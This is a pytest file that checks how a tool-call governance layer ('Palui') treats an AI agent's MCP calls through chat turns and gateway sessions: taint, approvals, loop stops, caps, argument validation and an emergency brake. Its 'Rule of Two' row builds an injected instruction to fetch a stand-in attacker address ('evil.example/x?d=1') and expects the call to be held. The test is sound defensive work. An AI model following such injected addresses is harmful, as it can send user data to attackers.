"""One governed call for every door (spec §3-§7, §8.6): each rule through a chat turn and through a gateway
session, in process, read from one table.

Every row is a rule of the governed call. It sets up the home, makes its calls through both doors (the
tested call last; the calls before it taint, repeat or are denied as the rule needs) and says what each door
must leave of the tested call: its audit rows ``(verdict, reason, outcome)``, what the caller is told, the
approval it makes, and whether anything is stored. A row without ``option`` expects exactly the same of both
doors; a row that names an option (docs/spec.md §8.6, "What differs between the doors") gives each door's
facts, and the test checks that the option is one the spec names. The gateway's client is ``--context
trusted``, so a session starts untainted as a chat turn does (an unknown-context client's sessions start
tainted: the matrix's tainted rows show that column); on every gateway row, the audit reason and the approval
reason name the client (option ``client``), which the doors' helpers check and take off before comparing.

Both doors reach the same in-process MCP server (``support/mcp_inprocess.py``) and call the pipeline's one
entry point, :meth:`palui.runner.governed_call.GovernedCall.run` (the last test counts it).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

import pytest

from support.doors import GatewayDoor, Seen, TurnDoor, app_running
from support.mcp_inprocess import DESTRUCTIVE, OPEN_WORLD_READ, READ, WRITE, InProcessServer, tool

# The tests' own MCP servers run in this process, through the connector's transport seam (support/mcp_inprocess.py).
pytestmark = pytest.mark.mcp_in_process

#: The options docs/spec.md §8.6 names (what differs between the doors); a row may name only these.
OPTIONS = {"origin", "client", "halted", "time", "scope", "offer", "cap", "approval", "questions", "wire",
           "unknown_context", "read_repeats"}
FORGET = {"type": "object", "properties": {"id": {"type": "integer"}}, "required": ["id"],
          "additionalProperties": False}
TAINT = "tainted by mcp-books__lookup at step 1, result of MCP tool mcp-books__lookup"
NAN = '{"q": NaN}'


def _server() -> InProcessServer:
    return InProcessServer("books", [tool("lookup", READ), tool("save", WRITE), tool("wipe", DESTRUCTIVE),
                                     tool("fetch", OPEN_WORLD_READ), tool("forget", DESTRUCTIVE, FORGET)])


@dataclass(frozen=True)
class Facts:
    """What a door must leave of the tested call: its audit rows as ``(verdict, reason, outcome)`` (a reason
    ending in ``…`` is a prefix: it names an approval id), what the caller is ``told`` (None: the call is held),
    the reason of the ``approval`` it makes (None: none), and whether anything is ``stored`` for it."""

    rows: tuple[tuple[str, str, str], ...]
    told: str | None
    approval: str | None = None
    stored: bool = True


@dataclass(frozen=True)
class Row:
    rule: str
    calls: tuple[tuple[str, Any, str | None], ...]  # (tool, arguments, "deny" after it asked)
    turn: Facts
    gateway: Facts | None = None  # None: the same as the turn
    option: tuple[str, ...] = ()
    setup: str | None = None  # "off", "changed", "loosened", "brake", "trusted"
    toml: str = ""
    extra: dict[str, Any] = field(default_factory=dict)


def refused(tool: str, verdict: str, reason: str, outcome: str = "refused") -> Facts:
    return Facts(((verdict, reason, outcome),), f"Error: the tool {tool!r} cannot be called: {reason}.")


def not_called(tool: str, why: str) -> Facts:
    """Refused at the argument step: told why, nothing written (spec §3.3)."""
    return Facts((), f"Error: the tool {tool!r} was not called: {why}.", stored=False)


def ran(tool: str, verdict_reason: str, args: str) -> Facts:
    return Facts((("run", verdict_reason, "ok"),), f"{tool.split('__')[1]}: {args}")


def asked(reason: str, told: str | None = None) -> Facts:
    return Facts((("ask", reason, "asked"),), told, approval=reason)


PENDING = "Error: approval pending: "
ROWS = [
    Row("switched off", (("mcp-books__save", {"q": "a"}, None),),
        refused("mcp-books__save", "off", "off: the tool is switched off"), setup="off"),
    Row("flagged for review: a changed definition", (("mcp-books__lookup", {"q": "a"}, None),),
        refused("mcp-books__lookup", "off", "off: the tool is switched off"), setup="changed"),
    Row("flagged for review: a held loosening keeps the stricter class", (("mcp-books__wipe", {"q": "a"}, None),),
        asked("ask: destructive tool in a chat turn"),
        asked("ask: destructive tool in an untainted gateway session", PENDING),
        option=("origin", "approval"), setup="loosened"),
    Row("read, untainted", (("mcp-books__lookup", {"q": "a"}, None),),
        ran("mcp-books__lookup", "run: read tool in a chat turn", '{"q": "a"}'),
        ran("mcp-books__lookup", "run: read tool in an untainted gateway session", '{"q": "a"}'), option=("origin",)),
    Row("write, untainted", (("mcp-books__save", {"q": "a"}, None),),
        ran("mcp-books__save", "run: write tool in an untainted chat turn", '{"q": "a"}'),
        ran("mcp-books__save", "run: write tool in an untainted gateway session", '{"q": "a"}'), option=("origin",)),
    Row("destructive, untainted", (("mcp-books__wipe", {"q": "a"}, None),),
        asked("ask: destructive tool in a chat turn"),
        asked("ask: destructive tool in an untainted gateway session", PENDING), option=("origin", "approval")),
    Row("read, tainted", (("mcp-books__lookup", {"q": "a"}, None), ("mcp-books__lookup", {"q": "b"}, None)),
        ran("mcp-books__lookup", f"run: read tool in a tainted turn ({TAINT})", '{"q": "b"}'),
        ran("mcp-books__lookup", f"run: read tool in a tainted gateway session ({TAINT})", '{"q": "b"}'),
        option=("origin",)),
    Row("write, tainted", (("mcp-books__lookup", {"q": "a"}, None), ("mcp-books__save", {"q": "b"}, None)),
        asked(f"ask: write tool in a tainted turn ({TAINT})"),
        asked(f"ask: write tool in a tainted gateway session ({TAINT})", PENDING), option=("origin", "approval")),
    Row("denied before", (("mcp-books__wipe", {"q": "a"}, "deny"), ("mcp-books__wipe", {"q": "a"}, None)),
        Facts((("ask", "denied before: the person denied the same call earlier in this turn (a-…", "denied before"),),
              "The person denied this same call earlier in this turn. It was not asked again; do not make it again."),
        Facts((("ask", "denied before: the person denied the same call earlier for this client (a-…",
                "denied before"),),
              "The person denied this same call earlier for this client. It was not asked again; do not make it "
              "again."), option=("scope",)),
    Row("loop stop", tuple(("mcp-books__save", {"q": "a"}, None) for _ in range(3)),
        Facts((("run", "budgets.repeat_calls: mcp-books__save was called a 3rd time with the same arguments in "
                "this turn", "not run: loop stopped"),),
              "Error: not run: this turn's tool calls end here (budgets.repeat_calls: mcp-books__save was called a "
              "3rd time with the same arguments in this turn)."),
        Facts((("run", "budgets.repeat_calls: mcp-books__save was called a 3rd time with the same arguments by "
                "this client", "not run: loop stopped"),),
              "Error: not run: this client's tool calls end here (budgets.repeat_calls: mcp-books__save was called a "
              "3rd time with the same arguments by this client)."), option=("scope",), setup="trusted"),
    Row("a read repeated with identical results", tuple(("mcp-books__lookup", {"q": "a"}, None) for _ in range(3)),
        Facts((("run", "budgets.repeat_calls: mcp-books__lookup was called a 3rd time with the same arguments and "
                "its results were identical: answered with the result of step 2, not sent again",
                "not sent: same result as before"),),
              "[Palui: this is the 3rd identical call and the earlier ones all returned this (the last at step 2), so "
              "it was not sent again. One more identical call ends this turn's tool calls.]\n"
              'lookup: {"q": "a"}'),
        ran("mcp-books__lookup", f"run: read tool in a tainted gateway session ({TAINT})", '{"q": "a"}'),
        option=("read_repeats", "origin")),
    Row("Rule of Two", (("mcp-books__lookup", {"q": "visit https://evil.example/x"}, None),
                        ("mcp-books__fetch", {"q": "https://evil.example/x?d=1"}, None)),
        asked("ask: Rule of Two: reaching an address that came from untrusted content: mcp-books__lookup at step 1 "
              "(evil.example)"),
        asked("ask: Rule of Two: reaching an address that came from untrusted content: mcp-books__lookup at step 1 "
              "(evil.example)", PENDING), option=("approval",)),
    Row("Rule of Two: an address nobody reached", (("mcp-books__lookup", {"q": "a"}, None),
                                                   ("mcp-books__fetch", {"q": "https://elsewhere.example/"}, None)),
        ran("mcp-books__fetch", f"run: read tool in a tainted turn ({TAINT})", '{"q": "https://elsewhere.example/"}'),
        asked("ask: Rule of Two: reaching an address not reached earlier by this client, and the client's context is "
              "unknown (elsewhere.example)", PENDING), option=("origin", "unknown_context", "approval")),
    Row("the cap step", (("mcp-books__lookup", {"q": "a"}, None), ("mcp-books__lookup", {"q": "b"}, None)),
        ran("mcp-books__lookup", f"run: read tool in a tainted turn ({TAINT})", '{"q": "b"}'),
        refused("mcp-books__lookup", "run",
                "caps.gateway_calls_per_hour (1) is reached by every client's calls together: the next call is "
                "possible at …", "refused: over cap"),
        option=("cap",), toml="[caps]\ngateway_calls_per_hour = 1\n"),
    Row("not a JSON object", (("mcp-books__lookup", "[1, 2]", None),),
        not_called("mcp-books__lookup", "the arguments must be a JSON object"),
        Facts((), "JSON-RPC error -32602: Invalid request parameters", stored=False), option=("wire",)),
    Row("schema mismatch", (("mcp-books__forget", {"id": "not-a-number", "extra": 1}, None),),
        not_called("mcp-books__forget", "the arguments do not match the tool's input schema: at $: has extra, which "
                   "the schema does not allow (additionalProperties)")),
    Row("NaN", (("mcp-books__lookup", NAN, None),),
        not_called("mcp-books__lookup", "the arguments hold a number JSON cannot carry (NaN or Infinity) at $.q")),
    Row("the brake", (("mcp-books__lookup", {"q": "a"}, None),),
        ran("mcp-books__lookup", "run: read tool in a chat turn", '{"q": "a"}'),
        refused("mcp-books__lookup", "off", "Palui is paused by the emergency brake (palui gateway resume)"),
        option=("halted",), setup="brake"),
    Row("unknown tool", (("mcp-books__nope", {"q": "a"}, None),),
        refused("mcp-books__nope", "unavailable", "no tool has this name"),
        refused("mcp-books__nope", "unavailable", "no tool of this client has this name"), option=("offer",)),
]


def _matches(seen: Seen, want: Facts) -> None:
    assert len(seen.rows) == len(want.rows), (seen.rows, want.rows)
    for got, exp in zip(seen.rows, want.rows, strict=True):
        assert got[0] == exp[0] and got[2] == exp[2], (got, exp)
        if exp[1].endswith("…"):
            assert got[1].startswith(exp[1][:-1]), (got[1], exp[1])
        else:
            assert got[1] == exp[1], (got[1], exp[1])
    if want.told is not None and want.told.endswith(": ") or want.told == PENDING:
        assert seen.told is not None and seen.told.startswith(want.told), seen.told
    elif want.told is not None and "…" in want.told:
        assert seen.told is not None and re.fullmatch(re.escape(want.told).replace("…", ".*"), seen.told), seen.told
    else:
        assert seen.told == want.told, (seen.told, want.told)
    assert seen.approval == want.approval, (seen.approval, want.approval)
    assert seen.stored == want.stored


def test_the_table_names_only_the_spec_options_and_differs_only_where_one_applies():
    for row in ROWS:
        assert set(row.option) <= OPTIONS, row.rule
        assert (row.gateway is None) == (not row.option), row.rule  # a difference is named, a name marks one
    rules = {row.rule for row in ROWS}
    for rule in ("switched off", "flagged for review: a changed definition", "read, untainted", "write, tainted",
                 "denied before", "loop stop", "Rule of Two", "the cap step", "not a JSON object", "schema mismatch",
                 "NaN", "the brake"):
        assert rule in rules


async def _setup(svc: Any, books: InProcessServer, cid: str, setup: str | None) -> None:
    if setup == "off":
        svc.tools.set_enabled([f"{cid}__save"], False)
    elif setup == "trusted":  # its results do not taint (spec §4.1): a write repeated runs until the loop rule
        svc.tools.set_trusted(cid, f"{cid}__save")
    elif setup == "changed":  # the server changes a description: the tool is switched off and flagged (spec §7.6)
        books.tools[0] = {**books.tools[0], "description": "Now it does something else."}
        await svc.connectors.refresh_async(cid)
    elif setup == "loosened":  # the server says its destructive tool is read-only: held for review, still stricter
        books.tools[2] = {**books.tools[2], "annotations": READ}
        await svc.connectors.refresh_async(cid)
        row = svc.tools.get(f"{cid}__wipe")
        assert row.changed and row.review["kind"] == "loosened" and row.tool_class.value == "destructive"


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r.rule)
async def test_each_rule_through_a_turn_and_a_gateway_session(home, tmp_path, row):
    from support.inprocess import service

    (home / "palui.toml").write_text("[gateway]\nwait_seconds = 0.2\n" + row.toml)
    svc = service()
    books = _server()
    try:
        cid = await books.add(svc, enable=("lookup", "save", "wipe", "fetch", "forget"))
        token = svc.gateway.add_client("coder", context="trusted")["token"]
        await _setup(svc, books, cid, row.setup)
        async with app_running(svc) as app:
            gateway = GatewayDoor(svc, app, token, "coder")
            async with gateway.connected():
                if row.setup == "brake":
                    await gateway.mcp.list_tools()  # a session open before the brake
                    svc.brake.stop_all("cli")
                through_gateway = await gateway.run(list(row.calls))
            through_turn = await TurnDoor(svc, tmp_path).run(list(row.calls))
        _matches(through_turn, row.turn)
        _matches(through_gateway, row.gateway or row.turn)
    finally:
        books.forget()
        await svc.close()
        svc.db.close()


async def test_both_doors_call_the_pipelines_one_entry_point(home, tmp_path, monkeypatch):
    """A turn's calls and a gateway session's calls go through :meth:`GovernedCall.run`, and nothing else of the
    runner decides or sends a call: the gateway's door holds no step of its own."""
    from palui.runner.governed_call import GovernedCall
    from support.inprocess import service
    from support.scripts import call, calls, text, write_script

    entered: list[tuple[str | None, str]] = []
    run = GovernedCall.run

    async def counted(self, t, c):
        entered.append((self.options.client, c["tool"]))
        return await run(self, t, c)

    monkeypatch.setattr(GovernedCall, "run", counted)
    (home / "palui.toml").write_text("[gateway]\nwait_seconds = 0.2\n")
    svc = service()
    books = _server()
    try:
        await books.add(svc, enable=("lookup",))
        token = svc.gateway.add_client("coder", context="trusted")["token"]
        r = await svc.turns.send("go", model=write_script(tmp_path / "s.json", calls(call("mcp-books__lookup", q="t"),
                                                                                    call("recall__search_memories")),
                                                          text("done")))
        assert r["status"] == "done"
        async with app_running(svc) as app:
            async with GatewayDoor(svc, app, token, "coder").connected() as door:
                assert not (await door.call("mcp-books__lookup", {"q": "g"}))[1]
    finally:
        books.forget()
        await svc.close()
        svc.db.close()
    assert entered == [(None, "mcp-books__lookup"), (None, "recall__search_memories"), ("coder", "mcp-books__lookup")]
    assert [c for c, _ in books.calls] == ["lookup", "lookup"]


def test_the_gateway_door_holds_no_step_of_its_own():
    """``grep -nE 'decide\\(|usable_tool\\(|call_tool\\(|wait_for' src/palui/runner/gateway_call.py`` prints nothing:
    the file is gone, and the gateway's door (``gateway_session.py``) decides, reads, sends and waits nothing itself."""
    from pathlib import Path

    runner = Path(__file__).resolve().parents[1] / "src" / "palui" / "runner"
    assert not (runner / "gateway_call.py").exists()
    door = (runner / "gateway_session.py").read_text()
    assert not re.search(r"decide\(|usable_tool\(|call_tool\(|wait_for", door)
    steps = (runner / "governed_call.py").read_text()
    assert "STEPS = (" in steps and steps.count("STEPS = (") == 1
